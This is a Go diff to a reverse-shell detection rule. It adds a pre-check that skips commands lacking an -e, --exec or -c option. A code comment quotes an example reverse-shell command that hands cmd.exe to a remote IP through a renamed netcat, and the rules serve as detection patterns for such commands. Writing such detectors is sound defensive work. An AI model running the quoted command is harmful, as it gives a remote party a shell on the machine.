@@ -168,6 +168,9 @@ var reverseShellRules = []*rule{
 			// n.exe 198.51.100.8 443 -e cmd.exe: whatever the program is
 			// called, these arguments hand a shell to a remote host
 			args := c.args()
+			if !shellOptionAmong(args) {
+				return false, "" // most commands: no -e, --exec or -c at all
+			}
 			shell, host, port := "", false, false
 			for i, w := range args {
 				l := lower(strings.Trim(w.s, `"'`))
@@ -328,4 +331,17 @@ func hostLike(l string) bool {
 		return false
 	}
 	return true
+}
+
+// shellOptionAmong reports an -e, --exec or -c option (in any case, maybe
+// quoted) among the arguments, the only way revshell-renamed-netcat's
+// shell is given.
+func shellOptionAmong(args []word) bool {
+	for i, w := range args {
+		s := strings.Trim(w.s, `"'`)
+		if i+1 < len(args) && (len(s) == 2 && s[0] == '-' && (s[1]|0x20 == 'e' || s[1]|0x20 == 'c') || strings.EqualFold(s, "--exec")) {
+			return true
+		}
+	}
+	return false
 }
